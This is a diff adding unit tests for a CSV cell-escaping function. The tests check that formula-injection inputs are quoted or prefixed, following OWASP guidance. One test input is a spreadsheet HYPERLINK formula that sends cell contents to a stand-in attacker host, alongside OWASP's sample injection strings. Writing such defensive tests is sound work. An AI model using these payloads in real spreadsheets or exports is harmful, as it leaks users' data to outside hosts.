@@ -22,6 +22,23 @@ describe('csvCell', () => {
     expect(csvCell('a=b')).toBe('a=b');
     expect(csvCell('Ñúñez')).toBe('Ñúñez');
   });
+
+  it('defuses a line feed at the start too (OWASP lists 0x0A beside tab and carriage return)', () => {
+    expect(csvCell('\n=1+1')).toBe(`"'\n=1+1"`);
+  });
+
+  // OWASP, CSV Injection: "it is not sufficient to make sure that the untrusted user input does not start
+  // with these characters. You also need to take care of the field separator (e.g., ',' or ';')". A
+  // spreadsheet that splits on ';' or tab as well as ',' would cut an unquoted `Springfield;=HYPERLINK(…)` in
+  // two, the second cell a formula; quoted, it stays one text cell.
+  it('quotes text holding a semicolon or a tab, so no other separator can start a cell inside it', () => {
+    expect(csvCell('Springfield;=HYPERLINK("https://evil.example/?"&A1)')).toBe('"Springfield;=HYPERLINK(""https://evil.example/?""&A1)"');
+    expect(csvCell('a;b')).toBe('"a;b"');
+    expect(csvCell('a\t=1+1')).toBe('"a\t=1+1"');
+    // OWASP's two examples.
+    expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
+    expect(csvCell(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`);
+  });
 });
 
 describe('toCsv', () => {
